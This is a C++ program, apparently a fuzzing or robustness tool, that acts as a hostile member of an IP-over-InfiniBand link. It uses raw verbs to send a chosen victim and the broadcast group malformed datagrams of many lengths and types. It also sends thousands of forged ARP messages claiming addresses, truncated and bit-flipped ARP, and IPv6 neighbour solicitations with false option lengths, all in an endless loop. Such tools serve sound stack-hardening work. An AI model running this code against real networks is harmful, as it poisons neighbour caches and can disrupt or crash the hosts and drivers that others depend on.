// A member of an IPoIB link that lies: raw UD datagrams to another member's QP and to the broadcast group.
// usage: ipoib_member DEVICE Q_KEY QPN GID BROADCAST_GID IPV4
// QPN, GID, IPV4: of the member that is attacked. Goes round after round, one line on stdout after each,
// until it is ended.
#include <arpa/inet.h>
#include <infiniband/verbs.h>

#include <array>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <string>
#include <vector>

namespace {

constexpr std::size_t kRoom = 4096;  // the path MTU of an in-process wire
constexpr int kDepth = 64;
constexpr std::uint32_t kForged = 6000;  // more than a link has neighbours

void check(bool is_good, const char* what) {
    if (!is_good) {
        std::perror(what);
        std::exit(1);
    }
}

using Octets = std::vector<std::uint8_t>;

void put(Octets& octets, std::uint64_t value, int count) {
    while (count-- > 0) {
        octets.push_back(static_cast<std::uint8_t>(value >> (8 * count)));
    }
}
void put(Octets& octets, const ibv_gid& gid) {
    octets.insert(octets.end(), std::begin(gid.raw), std::end(gid.raw));
}

ibv_gid gid_of(const char* text) {
    ibv_gid gid{};
    check(inet_pton(AF_INET6, text, gid.raw) == 1, text);
    return gid;
}

class Sender {
  public:
    Sender(const std::string& name, std::uint32_t qkey) : qkey_(qkey) {
        int count = 0;
        ibv_device** list = ibv_get_device_list(&count);
        for (int i = 0; i < count && context_ == nullptr; ++i) {
            context_ = name == ibv_get_device_name(list[i]) ? ibv_open_device(list[i]) : nullptr;
        }
        check(context_ != nullptr, "no such device");
        pd_ = ibv_alloc_pd(context_);
        cq_ = ibv_create_cq(context_, kDepth, nullptr, nullptr, 0);
        ibv_qp_init_attr init{};
        init.send_cq = init.recv_cq = cq_;
        init.cap = {kDepth, 1, 1, 1, 0};
        init.qp_type = IBV_QPT_UD;
        qp_ = ibv_create_qp(pd_, &init);
        mr_ = ibv_reg_mr(pd_, room_.data(), room_.size(), 0);
        check(qp_ != nullptr && mr_ != nullptr, "cannot make a UD QP");
        ibv_qp_attr attr{};
        attr.qp_state = IBV_QPS_INIT;
        attr.port_num = 1;
        attr.qkey = qkey;
        constexpr int kInit = IBV_QP_STATE | IBV_QP_PKEY_INDEX | IBV_QP_PORT | IBV_QP_QKEY;
        check(ibv_modify_qp(qp_, &attr, kInit) == 0, "INIT");
        attr.qp_state = IBV_QPS_RTR;
        check(ibv_modify_qp(qp_, &attr, IBV_QP_STATE) == 0, "RTR");
        attr.qp_state = IBV_QPS_RTS;
        check(ibv_modify_qp(qp_, &attr, IBV_QP_STATE | IBV_QP_SQ_PSN) == 0, "RTS");
    }
    ibv_ah* to(const ibv_gid& gid) {
        ibv_ah_attr attr{};
        attr.grh.dgid = gid;
        attr.grh.hop_limit = 64;
        attr.is_global = 1;
        attr.port_num = 1;
        ibv_ah* handle = ibv_create_ah(pd_, &attr);
        check(handle != nullptr, "cannot make an address handle");
        return handle;
    }
    void send(ibv_ah* handle, std::uint32_t qpn, const Octets& datagram) {
        std::memcpy(room_.data(), datagram.data(), datagram.size());
        ibv_sge sge{reinterpret_cast<std::uint64_t>(room_.data()),
                    static_cast<std::uint32_t>(datagram.size()), mr_->lkey};
        ibv_send_wr wr{};
        wr.sg_list = &sge;
        wr.num_sge = datagram.empty() ? 0 : 1;
        wr.opcode = IBV_WR_SEND;
        wr.send_flags = IBV_SEND_SIGNALED;
        wr.wr.ud.ah = handle;
        wr.wr.ud.remote_qpn = qpn;
        wr.wr.ud.remote_qkey = qkey_;
        ibv_send_wr* bad = nullptr;
        check(ibv_post_send(qp_, &wr, &bad) == 0, "ibv_post_send");
        ibv_wc completion{};
        while (ibv_poll_cq(cq_, 1, &completion) == 0) {
        }
        check(completion.status == IBV_WC_SUCCESS, ibv_wc_status_str(completion.status));
    }

  private:
    std::uint32_t qkey_;
    ibv_context* context_ = nullptr;
    ibv_pd* pd_ = nullptr;
    ibv_cq* cq_ = nullptr;
    ibv_qp* qp_ = nullptr;
    ibv_mr* mr_ = nullptr;
    std::array<std::uint8_t, kRoom> room_{};
};

struct Victim {
    std::uint32_t qpn = 0;
    ibv_gid gid{};
    std::uint32_t ip = 0;
};

/// ARP of RFC 4391, 9.2, from `qpn` at `gid`, who says that `ip` is his.
Octets arp(std::uint32_t operation, std::uint32_t qpn, const ibv_gid& gid, std::uint32_t ip,
           std::uint32_t asked) {
    Octets octets;
    put(octets, 0x08060000'00200800, 8);
    put(octets, 0x14040000U | operation, 4);
    put(octets, qpn, 4);
    put(octets, gid);
    put(octets, ip, 4);
    put(octets, 0, 4);
    put(octets, ibv_gid{});
    put(octets, asked, 4);
    return octets;
}

/// A neighbour solicitation for all nodes with an option of that type and length, of which `octets` are
/// there.
Octets solicitation(std::uint8_t type, std::uint8_t length, std::size_t option_octets) {
    Octets message;
    put(message, 0x87000000'00000000, 8);
    put(message, gid_of("fe80::77"));
    put(message, type, 1);
    put(message, length, 1);
    message.resize(24 + option_octets, 0xFF);
    Octets addresses;
    put(addresses, gid_of("fe80::66"));
    put(addresses, gid_of("ff02::1"));
    std::uint32_t sum = static_cast<std::uint32_t>(message.size()) + 58;
    for (const Octets* part : {&addresses, &message}) {
        for (std::size_t i = 0; i < part->size(); ++i) {
            sum += static_cast<std::uint32_t>((*part)[i]) << (i % 2 == 0 ? 8U : 0U);
        }
    }
    while (sum >> 16U != 0) {
        sum = (sum & 0xFFFFU) + (sum >> 16U);
    }
    message[2] = static_cast<std::uint8_t>(~sum >> 8U);
    message[3] = static_cast<std::uint8_t>(~sum);
    Octets octets;
    put(octets, 0x86DD0000'60000000, 8);
    put(octets, message.size(), 2);
    put(octets, 0x3AFF, 2);
    octets.insert(octets.end(), addresses.begin(), addresses.end());
    octets.insert(octets.end(), message.begin(), message.end());
    return octets;
}

void lengths_and_types(Sender& sender, ibv_ah* handle, std::uint32_t qpn) {
    for (const std::uint32_t type : {0x0800U, 0x0806U, 0x8035U, 0x86DDU, 0x88CCU, 0xFFFFU}) {
        for (std::size_t octets = 0; octets <= kRoom; octets += octets < 200 || octets > 2030 ? 1 : 31) {
            Octets datagram;
            put(datagram, type << 16U, 4);
            put(datagram, type == 0x86DD ? 0x60000000 : 0x45000000, 4);
            datagram.resize(octets, 0x45);
            sender.send(handle, qpn, datagram);
        }
    }
}

void forged_arp(Sender& sender, ibv_ah* handle, std::uint32_t qpn, const Victim& victim) {
    for (std::uint32_t i = 0; i < kForged; ++i) {
        ibv_gid gid = gid_of("fe80::");
        gid.raw[15] = static_cast<std::uint8_t>(i);
        gid.raw[14] = static_cast<std::uint8_t>(i >> 8U);
        gid.raw[8] = 0x66;
        // 10.9.x.x, but not the first 256: those are the members'.
        sender.send(handle, qpn, arp(1 + i % 2, 0x1000 + i, gid, 0x0A090100 + i, victim.ip));
    }
    // His own address, special QPs, groups, nobody.
    for (const std::uint32_t from : {victim.qpn, 0U, 1U, 0xFFFFFFU}) {
        for (const ibv_gid& gid : {victim.gid, gid_of("ff12:401b:ffff::ffff:ffff"), ibv_gid{}}) {
            sender.send(handle, qpn, arp(1, from, gid, victim.ip, victim.ip));
            sender.send(handle, qpn, arp(2, from, gid, 0x0A0900FE, victim.ip));
        }
    }
    Octets broken = arp(1, 0x2000, victim.gid, 0x0A0900FE, victim.ip);
    for (std::size_t octets = 4; octets < broken.size(); ++octets) {
        Octets wrong(broken.begin(), broken.begin() + static_cast<std::ptrdiff_t>(octets));
        sender.send(handle, qpn, wrong);
        wrong = broken;
        wrong[octets] ^= 0xFFU;
        // Who answers for an address that is another's is believed, as on any Ethernet: not tried here.
        if (octets < 12) {
            sender.send(handle, qpn, wrong);
        }
    }
}

void lying_options(Sender& sender, ibv_ah* handle, std::uint32_t qpn) {
    for (const std::uint8_t type : {1, 2, 3, 14, 255}) {
        for (unsigned length = 0; length < 256; ++length) {
            sender.send(handle, qpn, solicitation(type, static_cast<std::uint8_t>(length), 24));
            sender.send(handle, qpn, solicitation(type, static_cast<std::uint8_t>(length), 2 + length % 7));
        }
    }
}

}  // namespace

int main(int argc, char** argv) {
    check(argc == 7, "usage: ipoib_member DEVICE Q_KEY QPN GID BROADCAST_GID IPV4");
    Sender sender(argv[1], static_cast<std::uint32_t>(std::stoul(argv[2], nullptr, 0)));
    Victim victim;
    victim.qpn = static_cast<std::uint32_t>(std::stoul(argv[3], nullptr, 0));
    victim.gid = gid_of(argv[4]);
    check(inet_pton(AF_INET, argv[6], &victim.ip) == 1, argv[6]);
    victim.ip = ntohl(victim.ip);
    ibv_ah* member = sender.to(victim.gid);
    ibv_ah* everybody = sender.to(gid_of(argv[5]));
    for (unsigned round = 1;; ++round) {
        for (const auto& [handle, qpn] : {std::pair(member, victim.qpn), std::pair(everybody, 0xFFFFFFU)}) {
            lengths_and_types(sender, handle, qpn);
            forged_arp(sender, handle, qpn, victim);
            lying_options(sender, handle, qpn);
        }
        std::printf("round %u\n", round);
        std::fflush(stdout);
    }
}
